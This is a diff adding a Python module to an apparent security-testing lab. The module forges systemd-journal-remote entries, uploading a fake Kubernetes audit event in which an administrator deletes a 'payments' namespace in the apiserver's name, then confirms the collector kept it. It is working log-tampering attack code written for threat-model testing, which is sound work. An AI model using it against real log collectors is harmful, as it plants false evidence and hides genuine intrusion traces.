@@ -1,0 +1,138 @@
+"""Write entries into the collected logs that no machine ever made.
+
+A collector that takes journals by plain HTTP takes them from everybody, and each entry says of
+itself from which machine and which service it is. The attacker needs a foothold on the cluster
+network, and sends an event in the name of the apiserver: an accusation, or so much noise that the
+real traces drown. Client certificates stop strangers. They do not stop a machine that has one from
+sending entries in the name of another: then the collector's file, which is named after the
+certificate, tells the two apart.
+"""
+
+from __future__ import annotations
+
+import json
+import secrets
+import time
+from typing import TYPE_CHECKING
+
+from labkit.errors import ProbeError
+from labkit.lab.traces import Trace, leaving
+from labkit.model import Foothold, Model, read_model
+from labkit.techniques._lib.api.ask import ask, url_of
+from labkit.techniques._lib.machines.reach import Answer, attacker
+from labkit.techniques._lib.machines.waiting import wait_for
+from labkit.techniques._lib.stores.journal import (
+    COLLECTOR,
+    MODES,
+    PATIENCE,
+    STORE,
+    UPLOADS,
+    collector_has,
+    entry_arrives,
+    master_of,
+)
+from labkit.techniques._lib.technique import NETWORK, Prediction, Technique, any_of, holds
+from labkit.techniques._lib.verdict import Verdict
+
+if TYPE_CHECKING:
+    from labkit.lab import Lab
+
+__all__ = ["TECHNIQUE"]
+
+CHANNEL = "* -> systemd-journal-remote@*"
+#: What a request must be to be taken at all.
+MEDIA = ("--header", "Content-Type: application/vnd.fdo.journal")
+
+
+def predict(model: Model, foothold: Foothold) -> Prediction:
+    """Predict whether the collector asks who sends it entries."""
+    found = model.open_channels(CHANNEL)
+    if not found:
+        return Prediction(False, (f"the model has no channel {CHANNEL}",))
+    return any_of(*(holds(it.client_authentication, "none") for it in found))
+
+
+def execute(lab: Lab, foothold: Foothold) -> Verdict:
+    """Send the collector an audit event in the name of the apiserver, and look for it there.
+
+    Raises
+    ------
+    ProbeTimeout
+        The collector took the entry, and does not have it.
+    ProbeError
+        The answer is neither a success nor a known refusal.
+    """
+    channel = read_model(lab.environment).open_channels(UPLOADS)[0]
+    ident, master = f"labkit-forged-{secrets.token_hex(8)}", master_of(lab.environment)
+    # the collector names the file of a sender without a certificate after the sender's address
+    file = f"{STORE}/remote-{lab.addresses[attacker(lab)]}.journal"
+
+    def proof(answer: Answer) -> str:
+        if answer.status != 202:
+            raise ProbeError(f"{TECHNIQUE.name}: HTTP {answer.status} is no answer of a collector")
+        has = ("_HOSTNAME=" + master, "_SYSTEMD_UNIT=kube-apiserver.service")
+        missing = "the collector took an entry, and does not have it"
+        wait_for(lab, lambda: collector_has(lab, ident, *has), PATIENCE, missing)
+        return f"the collector has an audit event of the apiserver on {master} that it never made"
+
+    with leaving(lab, Trace("file", file, COLLECTOR)):
+        return ask(
+            lab,
+            TECHNIQUE.name,
+            foothold,
+            url_of(channel, "/upload"),
+            method="POST",
+            options=[*MEDIA, "--data-binary", _entry(ident, master)],
+            proof=proof,
+            control=lambda: entry_arrives(lab),
+        )
+
+
+def _entry(ident: str, machine: str) -> str:
+    """Return an entry in systemd's export format: an administrator deletes a namespace."""
+    event = {
+        "kind": "Event",
+        "apiVersion": "audit.k8s.io/v1",
+        "level": "Metadata",
+        "auditID": ident,
+        "stage": "ResponseComplete",
+        "verb": "delete",
+        "user": {"username": "kubernetes-admin", "groups": ["system:masters"]},
+        "objectRef": {"resource": "namespaces", "name": "payments", "apiVersion": "v1"},
+        "responseStatus": {"code": 200},
+    }
+    now = time.time_ns() // 1000
+    fields = {
+        "__REALTIME_TIMESTAMP": now,
+        "__MONOTONIC_TIMESTAMP": now,
+        "_BOOT_ID": secrets.token_hex(16),
+        "_HOSTNAME": machine,
+        "_SYSTEMD_UNIT": "kube-apiserver.service",
+        "SYSLOG_IDENTIFIER": "kube-apiserver",
+        "PRIORITY": 6,
+        "MESSAGE": json.dumps(event, separators=(",", ":")),
+    }
+    return "".join(f"{name}={value}\n" for name, value in fields.items()) + "\n"
+
+
+TECHNIQUE = Technique(
+    name="forge-journal-entries",
+    title="Write entries into the collected logs in the name of another machine",
+    footholds=(NETWORK,),
+    grants=(),
+    about=CHANNEL,
+    properties=("client_authentication",),
+    attack=("T1565.001",),
+    stride=("spoofing", "repudiation", "tampering"),
+    cwe=("CWE-306", "CWE-345"),
+    sources=(
+        "https://www.freedesktop.org/software/systemd/man/latest/systemd-journal-remote.service.html",
+        "https://systemd.io/JOURNAL_EXPORT_FORMATS/",
+        "https://attack.mitre.org/techniques/T1565/001/",
+    ),
+    predict=predict,
+    execute=execute,
+    leaves=("file",),
+    machines=(COLLECTOR,),
+    modes=MODES,
+)
